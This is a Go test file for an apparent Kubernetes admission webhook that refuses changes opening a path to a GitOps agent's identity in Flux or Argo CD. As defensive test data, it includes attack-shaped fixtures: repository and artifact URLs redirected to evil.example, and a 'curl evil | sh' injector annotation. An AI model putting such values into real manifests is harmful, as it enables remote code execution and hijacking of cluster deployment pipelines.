package webhook

import (
	"context"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admission/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"sigs.k8s.io/controller-runtime/pkg/webhook/admission"

	"github.com/gitgate/gitgate/audit"
	"github.com/gitgate/gitgate/breakglass"
	"github.com/gitgate/gitgate/provenance"
)

// What Git declares in the tests of the ways to an agent's identity: Flux's
// own Deployment, its GitRepository and Kustomization, an Argo CD
// Application, and an ordinary Deployment.
const (
	declaredFluxDeployment = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"kustomize-controller","namespace":"flux-system"},
		"spec":{"selector":{"matchLabels":{"app":"kc"}},"template":{"metadata":{"labels":{"app":"kc"}},
		"spec":{"serviceAccountName":"kustomize-controller","containers":[{"name":"manager","image":"ghcr.io/fluxcd/kustomize-controller:v1.6.0"}]}}}}`
	declaredGitRepository = `{"apiVersion":"source.toolkit.fluxcd.io/v1","kind":"GitRepository","metadata":{"name":"fleet","namespace":"flux-system"},
		"spec":{"interval":"1m","url":"https://git.example/fleet.git","ref":{"branch":"main"}}}`
	declaredKustomization = `{"apiVersion":"kustomize.toolkit.fluxcd.io/v1","kind":"Kustomization","metadata":{"name":"apps","namespace":"flux-system"},
		"spec":{"interval":"10m","path":"./apps","prune":true,"serviceAccountName":"apps-reconciler","sourceRef":{"kind":"GitRepository","name":"fleet"}}}`
	declaredApplication = `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{"name":"shop","namespace":"argocd"},
		"spec":{"project":"default","source":{"repoURL":"https://git.example/fleet.git","targetRevision":"main","path":"shop"},
		"destination":{"server":"https://kubernetes.default.svc","namespace":"shop"},"syncPolicy":{"automated":{"prune":true}}}}`
	dev = "dev-user"
)

func agentPathSnapshot(t *testing.T) *provenance.Snapshot {
	t.Helper()
	ix := &provenance.Indexer{Scope: clusterScope{}, DefaultNamespace: "default"}
	var objs []map[string]any
	for _, js := range []string{declaredFluxDeployment, declaredGitRepository, declaredKustomization, declaredApplication, declaredDeployment} {
		objs = append(objs, object(t, js))
	}
	s, err := ix.Build(provenance.Revision{Ref: "main", Hash: "0123456789abcdef0123456789abcdef01234567"}, []provenance.File{{Path: "fleet.yaml", Objects: objs}})
	if err != nil {
		t.Fatal(err)
	}
	return s.Snapshot()
}

// newObject is a create of obj (JSON) of the given resource.
func newObject(group, version, kind, resource, namespace, name, obj string) change {
	return change{op: admissionv1.Create, group: group, version: version, kind: kind, resource: resource, namespace: namespace, name: name, obj: obj}
}

func setPath(path []string, v any) func(map[string]any) {
	return func(m map[string]any) {
		for _, f := range path[:len(path)-1] {
			next, _ := m[f].(map[string]any)
			if next == nil {
				next = map[string]any{}
				m[f] = next
			}
			m = next
		}
		if v == nil {
			delete(m, path[len(path)-1])
			return
		}
		m[path[len(path)-1]] = v
	}
}

var (
	fluxDeploymentChange = change{group: "apps", version: "v1", kind: "Deployment", resource: "deployments", namespace: "flux-system", name: "kustomize-controller", obj: declaredFluxDeployment}
	gitRepositoryChange  = change{group: "source.toolkit.fluxcd.io", version: "v1", kind: "GitRepository", resource: "gitrepositories", namespace: "flux-system", name: "fleet", obj: declaredGitRepository}
	kustomizationChange  = change{group: "kustomize.toolkit.fluxcd.io", version: "v1", kind: "Kustomization", resource: "kustomizations", namespace: "flux-system", name: "apps", obj: declaredKustomization}
	applicationChange    = change{group: "argoproj.io", version: "v1alpha1", kind: "Application", resource: "applications", namespace: "argocd", name: "shop", obj: declaredApplication}
)

// agentPathCases are the ways to an agent's identity (and the changes next
// to them that are none), each judged under a grant, in warn mode and in
// audit mode.
func agentPathCases() []struct {
	name   string
	user   string
	change change
	// wantHard is the reason of a refusal no mode and no grant lets
	// pass; "" means the change is an ordinary refusal, which they do.
	wantHard provenance.Reason
} {
	return []struct {
		name     string
		user     string
		change   change
		wantHard provenance.Reason
	}{
		// The four of the issue.
		{name: "a Pod in flux-system running as kustomize-controller", user: dev, wantHard: reasonAgentToken,
			change: newObject("", "v1", "Pod", "pods", "flux-system", "p", `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","namespace":"flux-system"},"spec":{"serviceAccountName":"kustomize-controller","containers":[{"name":"c","image":"busybox"}]}}`)},
		{name: "a token Secret for kustomize-controller", user: dev, wantHard: reasonAgentToken,
			change: newObject("", "v1", "Secret", "secrets", "flux-system", "tok", `{"apiVersion":"v1","kind":"Secret","type":"kubernetes.io/service-account-token","metadata":{"name":"tok","namespace":"flux-system","annotations":{"kubernetes.io/service-account.name":"kustomize-controller"}}}`)},
		{name: "a new Kustomization", user: dev, wantHard: reasonAgentToken,
			change: newObject("kustomize.toolkit.fluxcd.io", "v1", "Kustomization", "kustomizations", "shop", "mine", `{"apiVersion":"kustomize.toolkit.fluxcd.io/v1","kind":"Kustomization","metadata":{"name":"mine","namespace":"shop"},"spec":{"path":"./","sourceRef":{"kind":"GitRepository","name":"fleet","namespace":"flux-system"}}}`)},
		{name: "a declared GitRepository's URL", user: dev, wantHard: reasonAgentToken,
			change: gitRepositoryChange.with(admissionv1.Update, setPath([]string{"spec", "url"}, "https://evil.example/fleet.git"))},
		// The rest of the rule.
		{name: "a declared GitRepository's ref", user: dev, wantHard: reasonAgentToken,
			change: gitRepositoryChange.with(admissionv1.Update, setPath([]string{"spec", "ref", "branch"}, "evil"))},
		{name: "a controller edits a declared GitRepository's URL", user: operator, wantHard: reasonAgentToken,
			change: gitRepositoryChange.with(admissionv1.Update, setPath([]string{"spec", "url"}, "https://evil.example/fleet.git"))},
		{name: "a declared Kustomization applied as kustomize-controller (its service account removed)", user: dev, wantHard: reasonAgentToken,
			change: kustomizationChange.with(admissionv1.Update, setPath([]string{"spec", "serviceAccountName"}, nil))},
		{name: "a declared Application pointed at another repository", user: dev, wantHard: reasonAgentToken,
			change: applicationChange.with(admissionv1.Update, setPath([]string{"spec", "source", "repoURL"}, "https://evil.example/x.git"))},
		{name: "a declared Application's sync operation with a source of its own", user: dev, wantHard: reasonAgentToken,
			change: applicationChange.with(admissionv1.Update, setPath([]string{"operation", "sync", "source", "repoURL"}, "https://evil.example/x.git"))},
		{name: "a Flux Operator ResourceSet", user: dev, wantHard: reasonAgentToken,
			change: newObject("fluxcd.controlplane.io", "v1", "ResourceSet", "resourcesets", "shop", "rs", `{"apiVersion":"fluxcd.controlplane.io/v1","kind":"ResourceSet","metadata":{"name":"rs","namespace":"shop"},"spec":{"resources":[]}}`)},
		{name: "an ImageUpdateAutomation", user: operator, wantHard: reasonAgentToken,
			change: newObject("image.toolkit.fluxcd.io", "v1beta2", "ImageUpdateAutomation", "imageupdateautomations", "shop", "iua", `{"apiVersion":"image.toolkit.fluxcd.io/v1beta2","kind":"ImageUpdateAutomation","metadata":{"name":"iua","namespace":"shop"},"spec":{"sourceRef":{"kind":"GitRepository","name":"fleet"}}}`)},
		{name: "a Job in flux-system (its default service account)", user: dev, wantHard: reasonAgentToken,
			change: newObject("batch", "v1", "Job", "jobs", "flux-system", "j", `{"apiVersion":"batch/v1","kind":"Job","metadata":{"name":"j","namespace":"flux-system"},"spec":{"template":{"spec":{"containers":[{"name":"c","image":"busybox"}]}}}}`)},
		{name: "a CronJob running as kustomize-controller", user: dev, wantHard: reasonAgentToken,
			change: newObject("batch", "v1", "CronJob", "cronjobs", "flux-system", "cj", `{"apiVersion":"batch/v1","kind":"CronJob","metadata":{"name":"cj","namespace":"flux-system"},"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"serviceAccountName":"kustomize-controller","containers":[{"name":"c","image":"busybox"}]}}}}}}`)},
		{name: "a new image for the agent's own Deployment", user: dev, wantHard: reasonAgentToken,
			change: fluxDeploymentChange.with(admissionv1.Update, setImage)},
		{name: "a controller changes the agent's Deployment", user: operator, wantHard: reasonAgentToken,
			change: fluxDeploymentChange.with(admissionv1.Update, setImage)},
		{name: "a person's Pod of any service account mints a controller's token", user: dev, wantHard: reasonControllerToken,
			change: newObject("", "v1", "Pod", "pods", "shop", "debug", `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"debug","namespace":"shop"},"spec":{"containers":[{"name":"c","image":"busybox"}]}}`)},
		{name: "a person's token Secret of a controller", user: dev, wantHard: reasonControllerToken,
			change: newObject("", "v1", "Secret", "secrets", "shop", "tok", `{"apiVersion":"v1","kind":"Secret","type":"kubernetes.io/service-account-token","metadata":{"name":"tok","namespace":"shop","annotations":{"kubernetes.io/service-account.name":"web"}}}`)},
		// Ordinary refusals, which the mode and a grant still let pass.
		{name: "suspending a declared Kustomization", user: dev,
			change: kustomizationChange.with(admissionv1.Update, setPath([]string{"spec", "suspend"}, true))},
		{name: "turning a declared Application's automated sync off", user: dev,
			change: applicationChange.with(admissionv1.Update, setPath([]string{"spec", "syncPolicy", "automated"}, nil))},
		{name: "annotating a declared GitRepository (flux reconcile)", user: dev,
			change: gitRepositoryChange.with(admissionv1.Update, setPath([]string{"metadata", "annotations", "reconcile.fluxcd.io/requestedAt"}, "now"))},
		{name: "labelling the agent's Deployment", user: dev,
			change: fluxDeploymentChange.with(admissionv1.Update, setPath([]string{"metadata", "labels"}, map[string]any{"hotfix": "inc-42"}))},
		{name: "a person's Deployment of a controller's service account", user: dev,
			change: newObject("apps", "v1", "Deployment", "deployments", "shop", "hotfix", `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"hotfix","namespace":"shop"},"spec":{"template":{"spec":{"containers":[{"name":"c","image":"busybox"}]}}}}`)},
		{name: "an ordinary Secret", user: dev, change: secretChange.with(admissionv1.Create, nil)},
		{name: "deleting a declared Kustomization", user: dev, change: kustomizationChange.with(admissionv1.Delete, nil)},
	}
}

// TestAgentPathIsNeverCovered: a person under a break-glass grant, or in
// a warn or audit namespace, and a controller alike, may not take a way to
// an agent's identity; every other refusal stays theirs to pass. (A dry
// run takes none: TestDryRunOfAgentPath.)
func TestAgentPathIsNeverCovered(t *testing.T) {
	grant := breakglass.Grant{Name: "inc-42", Users: []string{dev, operator}, Reason: "INC-42", GrantedAt: t0.Add(-time.Hour), ExpiresAt: t0.Add(time.Hour)}
	policies := []struct {
		name     string
		edit     func(*Handler)
		decision audit.Decision
	}{
		{"under a grant", func(h *Handler) { h.BreakGlass = grantStore(grant) }, audit.BreakGlass},
		{"in warn mode", func(h *Handler) { h.Modes = FixedMode(Warn) }, audit.Warned},
		{"in audit mode", func(h *Handler) { h.Modes = FixedMode(Audit) }, audit.Audited},
	}
	snapshot := agentPathSnapshot(t)
	for _, tc := range agentPathCases() {
		for _, p := range policies {
			t.Run(tc.name+"/"+p.name, func(t *testing.T) {
				recs := &records{}
				h := &Handler{Identities: DefaultIdentities(), Skip: DefaultSkip(), Snapshots: fixedSnap{snapshot},
					Checker: &provenance.Checker{}, Controllers: ControllerChecker(nil), Repo: Repo{URL: "https://git.example/fleet.git"},
					Audit: recs, Now: func() time.Time { return t0 }}
				p.edit(h)
				resp := h.Handle(context.Background(), tc.change.admissionRequest(t, tc.user))
				if len(recs.list) != 1 {
					t.Fatalf("records = %+v, want one (allowed %v: %+v)", recs.list, resp.Allowed, resp.Result)
				}
				r := recs.list[0]
				if tc.wantHard == "" {
					if !resp.Allowed || r.Decision != p.decision || r.Reason == reasonAgentToken || r.Reason == reasonControllerToken {
						t.Errorf("allowed %v, record %s %s; want %s of an ordinary refusal", resp.Allowed, r.Decision, r.Reason, p.decision)
					}
					return
				}
				if resp.Allowed || r.Decision != audit.Denied || r.Reason != tc.wantHard || len(resp.Warnings) > 0 {
					t.Fatalf("allowed %v, warnings %q, record %s %s; want denied %s", resp.Allowed, resp.Warnings, r.Decision, r.Reason, tc.wantHard)
				}
				if msg := resp.Result.Message; !strings.Contains(msg, "neither the mode nor break-glass changes this") || strings.Contains(msg, "will revert it") {
					t.Errorf("message %q", msg)
				}
			})
		}
	}
}

// TestAgentPathMatchingGit: what Git declares stays allowed, the agent's
// own Deployment and a declared GitRepository included, whoever applies it
// and under whatever mode: only refusals become hard.
func TestAgentPathMatchingGit(t *testing.T) {
	snapshot := agentPathSnapshot(t)
	for _, c := range []change{fluxDeploymentChange, gitRepositoryChange, kustomizationChange} {
		for _, user := range []string{dev, operator} {
			h := &Handler{Identities: DefaultIdentities(), Skip: DefaultSkip(), Snapshots: fixedSnap{snapshot},
				Checker: &provenance.Checker{}, Controllers: ControllerChecker(nil), Modes: FixedMode(Warn)}
			d := h.Decide(context.Background(), c.with(admissionv1.Update, nil).admissionRequest(t, user))
			if !d.Allowed || d.Outcome != outcomeAllowed {
				t.Errorf("%s of %s by %s: %+v, want allowed", "UPDATE", c.kind, user, d)
			}
		}
	}
}

// TestAgentPathDebugContainer: an ephemeral container may mount its Pod's
// token: a person under a grant may debug a Pod of no class (the
// documented use of break-glass), never the agent's, nor a controller's
// (as exec into it, connect.go).
func TestAgentPathDebugContainer(t *testing.T) {
	grant := breakglass.Grant{Name: "inc-42", Users: []string{dev}, Reason: "INC-42", GrantedAt: t0.Add(-time.Hour), ExpiresAt: t0.Add(time.Hour)}
	pod := func(ns, sa string, debug bool) []byte {
		eph := `[]`
		if debug {
			eph = `[{"name":"debugger","image":"busybox"}]`
		}
		return []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","namespace":"` + ns + `"},"spec":{"serviceAccountName":"` + sa +
			`","containers":[{"name":"c","image":"app"}],"ephemeralContainers":` + eph + `}}`)
	}
	operators := DefaultIdentities()
	operators.ControllerUsers = []string{"system:serviceaccount:ops:*"}
	for _, tc := range []struct {
		ns, sa       string
		ids          Identities
		wantDecision audit.Decision
		wantReason   provenance.Reason
	}{
		{"flux-system", "kustomize-controller", DefaultIdentities(), audit.Denied, reasonAgentToken},
		{"kube-system", "deployment-controller", DefaultIdentities(), audit.Denied, reasonAgentToken},
		{"shop", "web", DefaultIdentities(), audit.Denied, reasonControllerToken},
		{"shop", "web", operators, audit.BreakGlass, provenance.ReasonEphemeralContainer},
	} {
		t.Run(tc.ns+"/"+tc.sa+"/"+string(tc.wantReason), func(t *testing.T) {
			recs := &records{}
			h := &Handler{Identities: tc.ids, Skip: DefaultSkip(), Snapshots: fixedSnap{agentPathSnapshot(t)}, Kinds: podKinds{},
				Checker: &provenance.Checker{}, Controllers: ControllerChecker(nil), BreakGlass: grantStore(grant), Audit: recs, Now: func() time.Time { return t0 }}
			req := admission.Request{AdmissionRequest: admissionv1.AdmissionRequest{
				UID: "uid-1", Operation: admissionv1.Update, Namespace: tc.ns, Name: "p", SubResource: "ephemeralcontainers",
				Kind:      metav1.GroupVersionKind{Version: "v1", Kind: "Pod"},
				Resource:  metav1.GroupVersionResource{Version: "v1", Resource: "pods"},
				UserInfo:  authenticationv1.UserInfo{Username: dev, Groups: []string{"system:authenticated"}},
				OldObject: runtime.RawExtension{Raw: pod(tc.ns, tc.sa, false)},
				Object:    runtime.RawExtension{Raw: pod(tc.ns, tc.sa, true)},
			}}
			resp := h.Handle(context.Background(), req)
			if len(recs.list) != 1 || recs.list[0].Decision != tc.wantDecision || recs.list[0].Reason != tc.wantReason {
				t.Fatalf("allowed %v, records %+v; want one %s %s", resp.Allowed, recs.list, tc.wantDecision, tc.wantReason)
			}
		})
	}
}

// TestAgentPathGitOpsKindsFlag: the webhook asks the kinds --gitops-kind
// gives, not a list of its own.
func TestAgentPathGitOpsKindsFlag(t *testing.T) {
	kinds, err := provenance.ParseGitOpsKinds([]string{"example.com/Widget"})
	if err != nil {
		t.Fatal(err)
	}
	widget := newObject("example.com", "v1", "Widget", "widgets", "shop", "w", `{"apiVersion":"example.com/v1","kind":"Widget","metadata":{"name":"w","namespace":"shop"},"spec":{}}`)
	ks := agentPathCases()[2].change
	for _, tc := range []struct {
		name   string
		kinds  provenance.GitOpsKinds
		change change
		want   provenance.Reason
	}{
		{"default kinds: a Kustomization", nil, ks, reasonAgentToken},
		{"default kinds: a Widget", nil, widget, provenance.ReasonNotInGit},
		{"--gitops-kind example.com/Widget: a Widget", kinds, widget, reasonAgentToken},
		{"--gitops-kind example.com/Widget: a Kustomization", kinds, ks, provenance.ReasonNotInGit},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := &Handler{Identities: DefaultIdentities(), Skip: DefaultSkip(), Snapshots: fixedSnap{agentPathSnapshot(t)},
				Checker: &provenance.Checker{GitOps: tc.kinds}, Controllers: ControllerChecker(nil), Modes: FixedMode(Warn), GitOpsKinds: tc.kinds}
			for _, user := range []string{dev, operator} {
				d := h.Decide(context.Background(), tc.change.admissionRequest(t, user))
				// not-in-git: refused for a person (warned), allowed for a
				// controller; agent-token: denied for both.
				if d.Reason != tc.want || d.Allowed != (tc.want == provenance.ReasonNotInGit) {
					t.Errorf("%s: reason %s (allowed %v), want %s", user, d.Reason, d.Allowed, tc.want)
				}
			}
		})
	}
}

// TestAgentPathBackedByGit: Git's backing excuses only the fields it
// compares. With --fields declared, a container Git does not declare in
// the agent's own Deployment, or an injector's annotation on its Pod
// template, would run with the agent's token; an Argo CD Application's
// operation is never compared, and may ask only for a plain sync.
func TestAgentPathBackedByGit(t *testing.T) {
	sidecar := func(m map[string]any) {
		c := at(m, []string{"spec", "template", "spec", "containers"}).([]any)
		m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"] = append(c, map[string]any{"name": "sidecar", "image": "evil"})
	}
	inject := setPath([]string{"spec", "template", "metadata", "annotations", "vault.hashicorp.com/agent-inject-command-x"}, "curl evil | sh")
	restart := setPath([]string{"spec", "template", "metadata", "annotations", "kubectl.kubernetes.io/restartedAt"}, "2026-12-06T00:00:00Z")
	operation := func(sync map[string]any) func(map[string]any) {
		return setPath([]string{"operation"}, map[string]any{"sync": sync, "initiatedBy": map[string]any{"username": "admin"}})
	}
	snapshot := agentPathSnapshot(t)
	for _, tc := range []struct {
		name     string
		user     string
		fields   provenance.FieldMode
		change   change
		wantHard provenance.Reason // "" allowed
	}{
		{"a person adds a container to the agent's Deployment, declared fields", dev, provenance.FieldsDeclared,
			fluxDeploymentChange.with(admissionv1.Update, sidecar), reasonAgentToken},
		{"a person annotates the agent's Pod template for an injector, declared fields", dev, provenance.FieldsDeclared,
			fluxDeploymentChange.with(admissionv1.Update, inject), reasonAgentToken},
		{"a person annotates the agent's Pod template for an injector, strict fields", dev, provenance.FieldsStrict,
			fluxDeploymentChange.with(admissionv1.Update, inject), reasonAgentToken},
		{"a person restarts the agent's Deployment", dev, provenance.FieldsStrict,
			fluxDeploymentChange.with(admissionv1.Update, restart), ""},
		{"a person re-applies the agent's Deployment as Git declares it", dev, provenance.FieldsStrict,
			fluxDeploymentChange.with(admissionv1.Update, nil), ""},
		{"a controller asks for a plain sync", operator, provenance.FieldsDeclared,
			applicationChange.with(admissionv1.Update, operation(map[string]any{"revision": "main", "prune": true})), ""},
		{"a controller asks for a sync of inline manifests", operator, provenance.FieldsDeclared,
			applicationChange.with(admissionv1.Update, operation(map[string]any{"manifests": []any{"kind: Pod"}})), reasonAgentToken},
		{"a controller asks for a sync of another revision", operator, provenance.FieldsDeclared,
			applicationChange.with(admissionv1.Update, operation(map[string]any{"revision": "evil"})), reasonAgentToken},
		{"a person asks for a sync of another source, declared fields", dev, provenance.FieldsDeclared,
			applicationChange.with(admissionv1.Update, operation(map[string]any{"source": map[string]any{"repoURL": "https://evil.example/x.git"}})), reasonAgentToken},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := &Handler{Identities: DefaultIdentities(), Skip: DefaultSkip(), Snapshots: fixedSnap{snapshot},
				Checker: &provenance.Checker{Fields: tc.fields}, Controllers: ControllerChecker(nil), Modes: FixedMode(Warn),
				Audit: &records{}, Now: func() time.Time { return t0 }}
			d := h.Decide(context.Background(), tc.change.admissionRequest(t, tc.user))
			if tc.wantHard == "" {
				if !d.Allowed {
					t.Fatalf("%+v, want allowed", d)
				}
				return
			}
			if d.Allowed || d.Reason != tc.wantHard {
				t.Fatalf("allowed %v reason %s (%s), want refused %s in warn mode", d.Allowed, d.Reason, d.Message, tc.wantHard)
			}
		})
	}
}

// TestArtifactStatusIsTheAgents: a Flux source's status names what the
// agent fetches and applies; no controller, and no person under warn mode,
// writes it.
func TestArtifactStatusIsTheAgents(t *testing.T) {
	statusOf := func(url string) func(map[string]any) {
		return setPath([]string{"status", "artifact"}, map[string]any{"url": url, "digest": "sha256:00"})
	}
	for _, user := range []string{operator, dev} {
		// No kind resolver: a failed lookup of the subresource's kind must
		// not soften the refusal either.
		h := &Handler{Identities: DefaultIdentities(), Skip: DefaultSkip(), Snapshots: fixedSnap{agentPathSnapshot(t)},
			Checker: &provenance.Checker{}, Controllers: ControllerChecker(nil), Modes: FixedMode(Warn), Kinds: noKinds{},
			Audit: &records{}, Now: func() time.Time { return t0 }}
		req := gitRepositoryChange.with(admissionv1.Update, statusOf("http://evil.example/x.tar.gz")).admissionRequest(t, user)
		req.SubResource = "status"
		if d := h.Decide(context.Background(), req); d.Allowed || d.Reason != reasonAgentToken {
			t.Errorf("%s writes a GitRepository's artifact: allowed %v reason %s, want refused %s", user, d.Allowed, d.Reason, reasonAgentToken)
		}
	}
}
